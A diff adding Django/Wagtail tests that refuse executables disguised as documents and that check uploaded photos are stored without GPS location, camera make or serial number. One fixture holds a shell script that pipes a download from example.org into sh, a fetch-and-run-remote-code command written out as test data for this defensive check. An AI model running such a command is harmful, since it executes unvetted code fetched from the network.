@@ -9,6 +9,7 @@ import zlib
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
 from PIL import Image as PILImage
 from wagtail.documents import get_document_model
 from wagtail.images import get_image_model
@@ -234,3 +235,135 @@ def test_documents_download_as_attachments_that_browsers_do_not_sniff(client, ed
     assert response["Content-Type"].startswith("text/plain")
     # Served by Django from storage, not from a folder under the web server's document root.
     assert document.url.startswith("/documents/")
+
+
+# Each passes every check but the executable signatures: a script is valid UTF-8 text, and
+# these executables carry "%PDF-" in their first KiB.
+EXECUTABLES_PASSING_AS_DOCUMENTS = {
+    "script-named-txt": ("notes.txt", b"#!/bin/sh\ncurl -s https://example.org/x | sh\n"),
+    "script-named-csv": ("members.csv", b"#!/usr/bin/env python3\nimport os\n"),
+    "elf-named-pdf": ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + PDF),
+    "exe-named-pdf": ("report.pdf", WINDOWS_EXECUTABLE + PDF),
+}
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    EXECUTABLES_PASSING_AS_DOCUMENTS.values(),
+    ids=EXECUTABLES_PASSING_AS_DOCUMENTS.keys(),
+)
+def test_executables_are_refused_by_both_document_upload_views(editor_client, name, content):
+    extension = name.rsplit(".", 1)[1]
+    count = Document.objects.count()
+    response = editor_client.post(
+        reverse("wagtaildocs:add"),
+        {
+            "title": name,
+            "collection": Collection.get_first_root_node().pk,
+            "file": SimpleUploadedFile(name, content),
+        },
+    )
+    assert response.status_code == 200
+    assert f"not a valid .{extension} document" in form_errors(response)
+
+    response = editor_client.post(
+        reverse("wagtaildocs:add_multiple"),
+        {"files[]": SimpleUploadedFile(name, content), "collection": Collection.get_first_root_node().pk},
+    )
+    assert response.status_code == 200
+    assert response.json()["success"] is False
+    assert f"not a valid .{extension} document" in response.json()["error_message"]
+    assert Document.objects.count() == count
+
+
+ORIENTATION, GPS_IFD = 0x0112, 0x8825
+
+
+def photo_with_location(image_format="JPEG"):
+    """A photo as a phone writes it: turned (orientation 6), with the camera's make, its serial
+    number and the place it was taken."""
+    image = PILImage.new("RGB", (64, 48), (11, 79, 113))
+    image.paste((240, 200, 40), (0, 0, 24, 16))
+    exif = PILImage.Exif()
+    exif[ORIENTATION] = 6
+    exif[0x010F] = "PhoneMaker"
+    exif.get_ifd(0x8769)[0xA431] = "SN-0042"  # body serial number
+    gps = exif.get_ifd(GPS_IFD)
+    gps.update({1: "N", 2: (60.0, 27.0, 6.0), 3: "E", 4: (22.0, 16.0, 5.0)})
+    buffer = io.BytesIO()
+    image.save(buffer, image_format, exif=exif)
+    return buffer.getvalue()
+
+
+def assert_stored_without_location(image, uploaded):
+    with image.file.open("rb") as stored_file:
+        stored = stored_file.read()
+    assert b"SN-0042" not in stored and b"PhoneMaker" not in stored
+    with PILImage.open(io.BytesIO(stored)) as stored_image, PILImage.open(io.BytesIO(uploaded)) as original:
+        exif = stored_image.getexif()
+        assert GPS_IFD not in exif
+        assert dict(exif) == {ORIENTATION: 6}
+        assert stored_image.format == original.format
+        # The same pixels: the file was rewritten, not encoded again.
+        assert stored_image.convert("RGB").tobytes() == original.convert("RGB").tobytes()
+    assert image.file_size == len(stored)
+    assert (image.width, image.height) == (64, 48)
+
+
+def test_the_add_view_stores_photos_without_their_location(editor_client):
+    uploaded = photo_with_location()
+    response = upload_image(editor_client, "harbour.jpg", uploaded)
+    assert response.status_code == 302
+    assert_stored_without_location(Image.objects.get(title="harbour.jpg"), uploaded)
+
+
+@pytest.mark.parametrize(("name", "image_format"), [("harbour.jpg", "JPEG"), ("harbour.png", "PNG"), ("harbour.webp", "WEBP")])
+def test_the_multiple_upload_stores_photos_without_their_location(editor_client, name, image_format):
+    uploaded = photo_with_location(image_format)
+    response = editor_client.post(
+        reverse("wagtailimages:add_multiple"),
+        {"files[]": SimpleUploadedFile(name, uploaded), "collection": Collection.get_first_root_node().pk},
+    )
+    assert response.status_code == 200
+    assert response.json()["success"] is True
+    assert_stored_without_location(Image.objects.get(pk=response.json()["image_id"]), uploaded)
+
+
+def test_the_choosers_upload_stores_photos_without_their_location(editor_client):
+    uploaded = photo_with_location()
+    response = editor_client.post(
+        reverse("wagtailimages_chooser:create"),
+        {
+            "image-chooser-upload-title": "harbour from the chooser",
+            "image-chooser-upload-collection": Collection.get_first_root_node().pk,
+            "image-chooser-upload-file": SimpleUploadedFile("harbour.jpg", uploaded),
+        },
+    )
+    assert response.status_code == 200
+    assert response.json()["step"] == "chosen"
+    assert_stored_without_location(Image.objects.get(title="harbour from the chooser"), uploaded)
+
+
+def test_a_new_file_for_an_image_is_stored_without_its_location(editor_client):
+    upload_image(editor_client, "river.png", png_bytes())
+    image = Image.objects.get(title="river.png")
+    uploaded = photo_with_location()
+    response = editor_client.post(
+        reverse("wagtailimages:edit", args=[image.pk]),
+        {
+            "title": "river.png",
+            "collection": image.collection_id,
+            "file": SimpleUploadedFile("river.jpg", uploaded),
+        },
+    )
+    assert response.status_code == 302
+    image.refresh_from_db()
+    assert_stored_without_location(image, uploaded)
+
+
+def test_an_avif_holding_its_location_is_refused_with_a_message(editor_client):
+    count = Image.objects.count()
+    response = upload_image(editor_client, "harbour.avif", photo_with_location("AVIF"))
+    assert response.status_code == 200
+    assert "holds the place where it was taken" in form_errors(response)
+    assert Image.objects.count() == count
